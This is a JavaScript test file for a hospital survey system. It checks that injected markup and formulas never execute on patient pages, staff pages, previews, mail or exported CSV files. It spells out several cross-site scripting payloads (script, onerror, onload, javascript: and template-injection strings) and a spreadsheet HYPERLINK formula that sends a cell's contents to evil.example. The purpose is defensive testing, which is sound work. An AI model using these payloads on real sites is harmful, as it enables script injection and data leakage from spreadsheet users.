// Whatever people write, in a survey, of a patient or as a patient, is text: on every page, in every mail and file.

import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";

import { openHouse } from "./support/house.mjs";
import { everyKind } from "./support/questions.mjs";

const { api, browser, server } = await openHouse({ mail: true });

const HOSPITAL = "JED";
const MARK = "window.ran=1";
/** One after the other they leave whatever they stand in: text, an attribute, a text area, a style, a script. */
const ATTACK = [
  `x"'><script>${MARK}</script>`,
  `<img src=x onerror="${MARK}">`,
  `</textarea></title></style></script><svg onload=${MARK}>`,
  `<a href="javascript:${MARK}">`,
  `{{constructor.constructor('${MARK}')()}}`,
].join("");
/** The same where only a hundred letters fit. */
const SHORT_ATTACK = `</title><script>${MARK}</script><img src=x onerror=${MARK}>`;
/** What a spreadsheet would run. */
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")';

const templates = "/api/surveys/templates/";

const title = { ar: `Survey ${SHORT_ATTACK}`, en: `Survey ${SHORT_ATTACK}` };
const text = (name) => ({ ar: `${name} ${ATTACK}`, en: `${name} ${ATTACK}` });
const QUESTIONS = everyKind(text);

const ANSWERS = {
  nps: 2, rating: 1, csat: 1, ces: 1, single: "a", multiple: ["a"], ranking: ["b", "a"],
  "matrix.a": 1, "matrix.b": 2, yes_no: false, words: `${FORMULA} ${ATTACK}`, day: "2026-11-01",
  agreed: true, "reach.name": SHORT_ATTACK, "reach.mobile": "0512345678",
};

/** Fails when anything ran in any frame of the page. */
async function nothingRan(page) {
  for (const frame of page.frames()) {
    assert.equal(await frame.evaluate(() => window.ran ?? null), null, frame.url());
  }
}

/** Opens these addresses one after the other, and looks whether anything ran. */
async function look({ page, open }, addresses, meanwhile = async () => {}) {
  for (const address of addresses) {
    await open(address);
    await page.waitForLoadState("networkidle");
    await meanwhile();
    await nothingRan(page);
  }
}

describe("what somebody wrote", () => {
  let survey;
  let journey;
  let invited;
  let poster;

  before(async () => {
    await api.create("admin", templates, { title });
    const { items } = await api.get("admin", templates);
    survey = items.find(({ name }) => name.en.startsWith("Survey <")).id;
    const draft = await api.get("admin", `${templates}${survey}/`);
    const content = { ...draft.content, title, introduction: text("Why"), questions: QUESTIONS };
    await api.put("admin", `${templates}${survey}/`, { lock_version: draft.lock_version, content });
    await api.post("admin", `${templates}${survey}/publish/`, { lock_version: draft.lock_version + 1 });
    const posters = "/api/surveys/posters/";
    const { hospitals } = await api.get("admin", posters);
    await api.create("admin", posters, { hospital_id: hospitals[0].id, template_id: survey });
    const hanging = (await api.get("admin", posters)).items.find(({ template_id }) => template_id === survey);
    poster = await api.get("admin", `${posters}${hanging.id}/`);
    journey = await api.sendFrom(HOSPITAL, survey);
    invited = await api.invite({ hospital: HOSPITAL, patient: { name_ar: SHORT_ATTACK, name_en: SHORT_ATTACK } });
  });

  after(async () => {
    if (journey) await api.retireJourney(journey);
  });

  it("does not run in the mail", () =>
    browser.visit({}, async ({ page }) => {
      await page.setContent(invited.mail.html);
      await nothingRan(page);
      assert.ok((await page.locator("a").count()) >= 2);
    }));

  for (const language of ["ar", "en"]) {
    it(`does not run on the patient's pages, in ${language}`, () =>
      browser.visit({ language, width: 390 }, async (visitor) => {
        const pages = QUESTIONS.map(({ page }) => `/s/${invited.token}/${page}?lang=${language}`);
        const wall = new URL(poster.address).pathname;
        await look(visitor, [...pages, `/s/${invited.token}/stop?lang=${language}`, `${wall}?lang=${language}`]);
        await visitor.open(`/s/${invited.token}/10?lang=${language}`);
        await visitor.page.locator("textarea").fill(ATTACK);
        await visitor.page.locator(".bar [name=back]").click();
        await look(visitor, [`/s/${invited.token}/10?lang=${language}`]);
        assert.equal(await visitor.page.locator("textarea").inputValue(), ATTACK);
      }));
  }

  it("does not run on a page of staff, nor in a preview", async () => {
    const handedIn = await fetch(new URL(`/api/surveys/submit/${invited.token}/`, server.url), {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ language: "en", answers: ANSWERS }),
    });
    assert.equal(handedIn.status, 200, await handedIn.text());
    const { items: patients } = await api.get("admin", "/api/organizations/patients/?search=script");
    const patient = patients.find(({ name_en }) => name_en === SHORT_ATTACK) ?? patients[0];
    assert.ok(patient, "the patient can be found");
    for (const language of ["ar", "en"]) {
      await browser.visit({ as: "admin", language }, async (visitor) => {
        const at = (path) => `/${language}/${path}`;
        await look(visitor, [
          at("surveys"), at(`surveys/${survey}/results`), at("surveys/deliveries"), at("surveys/rules"),
          at("surveys/responses"), at("surveys/posters"), at(`surveys/posters/${poster.poster.id}`),
          at("journeys/templates"), at(`journeys/templates/${journey}`), at("journeys/list"),
          at("records/patients?search=script"), at(`records/patients/${patient.id}`), at("actions"), at("audit"),
          at("command-center"), at("notifications"),
        ]);
        // The builder shows every question, and beside it the patient's page in both languages.
        await look(visitor, [at(`surveys/${survey}`)], async () => {
          for (let index = 0; index < QUESTIONS.length; index += 1) {
            const shown = visitor.page.locator(`#question-${index}, [id^=question-] >> nth=${index}`).first();
            if (await shown.count()) await shown.click();
            await nothingRan(visitor.page);
          }
        });
      });
    }
  });

  it("is no formula and no page in a file", async () => {
    const token = await api.token("admin");
    const file = async (path) => {
      const answer = await fetch(new URL(path, server.url), { headers: { authorization: `Bearer ${token}` } });
      assert.equal(answer.status, 200, path);
      assert.match(answer.headers.get("content-disposition"), /^attachment/);
      assert.equal(answer.headers.get("x-content-type-options"), "nosniff");
      return answer;
    };
    const csv = await (await file(`${templates}${survey}/responses.csv`)).text();
    assert.ok(csv.includes("HYPERLINK"));
    assert.doesNotMatch(csv, /(^|[,\n])"?[=+@-]/m);
    await file(`${templates}${survey}/responses.xlsx`);
    await file("/api/audit/events.csv");
  });
});
